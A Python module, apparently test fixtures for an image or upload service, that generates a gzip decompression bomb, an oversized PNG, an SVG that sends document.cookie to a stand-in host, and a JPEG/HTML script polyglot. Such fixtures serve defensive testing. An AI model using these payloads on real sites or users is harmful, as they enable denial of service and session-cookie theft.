"""File contents made to harm whoever opens them, or who shows them to a browser."""

from __future__ import annotations

import io
import zlib
from functools import lru_cache

from PIL import Image

BOMB_BYTES = 200_000_000
BOMB_PIECE_BYTES = 1_000_000
HUGE_SIDE_PX = 8000
# zlib's number for "gzip header and trailer" with the largest window.
_GZIP_WINDOW = 16 + zlib.MAX_WBITS

SVG_SCRIPT = (
    b'<svg xmlns="http://www.w3.org/2000/svg" width="1024" height="1024" '
    b"onload=\"document.title='loaded'\">"
    b'<script>fetch("https://files.example.net/?" + document.cookie)</script>'
    b'<rect width="100%" height="100%" fill="teal"/></svg>'
)
SCRIPT_PAGE = b"<script>document.title='run'</script><h1>This is no image.</h1>\n"


@lru_cache(maxsize=1)
def gzip_bomb() -> bytes:
    """Return about 200 kB of gzip that hold a small PNG and zeros after it, 200 MB together."""
    packer = zlib.compressobj(9, zlib.DEFLATED, _GZIP_WINDOW)
    image, zeros = _png(64), bytes(BOMB_PIECE_BYTES)
    pieces = [packer.compress(image), packer.compress(bytes(BOMB_PIECE_BYTES - len(image)))]
    pieces += [packer.compress(zeros) for _ in range(BOMB_BYTES // BOMB_PIECE_BYTES - 1)]
    return b"".join((*pieces, packer.flush()))


@lru_cache(maxsize=1)
def huge_png() -> bytes:
    """Return a valid PNG of about 8 kB with 8000 x 8000 pixels, one bit and one colour each."""
    return _png(HUGE_SIDE_PX)


def polyglot(jpeg: bytes) -> bytes:
    """Return a file that opens as the image given and, read as a page, runs a script."""
    return jpeg + SCRIPT_PAGE


def _png(side_px: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("1", (side_px, side_px)).save(buffer, format="PNG", compress_level=9)
    return buffer.getvalue()
